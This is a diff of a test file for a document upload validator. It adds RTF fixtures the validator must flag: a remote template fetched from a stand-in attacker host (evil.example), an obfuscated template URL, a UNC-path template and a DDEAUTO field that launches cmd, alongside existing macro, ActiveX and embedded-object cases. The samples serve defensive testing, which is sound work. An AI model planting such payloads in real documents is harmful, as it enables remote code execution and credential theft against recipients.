@@ -109,7 +109,7 @@ const hostile: [string, string, Buffer, UploadFault][] = [
   [
     'macros that are only declared',
     'a.docx',
-    zip(docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml')),
+    zip(docx([], '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')),
     'macros',
   ],
   ['ActiveX', 'a.docx', zip(docx([{ name: 'word/activeX/activeX1.xml', bytes: 'x' }])), 'macros'],
@@ -188,6 +188,10 @@ const hostile: [string, string, Buffer, UploadFault][] = [
   ['an encrypted document', 'a.doc', compound('EncryptedPackage', 'EncryptionInfo'), 'encrypted'],
   ['an object in rich text', 'a.rtf', text('{\\rtf1{\\object{\\*\\objdata 0105}}}'), 'embedded'],
   ['an object in rich text with line breaks', 'a.rtf', text('{\\rtf1{\\obj\r\ndata 0105}}'), 'embedded'],
+  ['a template in rich text', 'a.rtf', text('{\\rtf1{\\*\\template http://evil.example/t.dotm}}'), 'macros'],
+  ['a template in rich text by numbers', 'a.rtf', text('{\\rtf1{\\*\\template \\u104 ?\\u116 ?tp://x}}'), 'macros'],
+  ['a template on another machine in rich text', 'a.rtf', text('{\\rtf1{\\*\\template \\\\\\\\evil\\\\t}}'), 'macros'],
+  ['a field of rich text that starts a program', 'a.rtf', text('{\\rtf1{\\*\\fldinst {\\b DDEAUTO cmd}}}'), 'macros'],
   ['rich text with something after it', 'a.rtf', Buffer.concat([RTF, text('<script>')]), 'polyglot'],
 ]
 
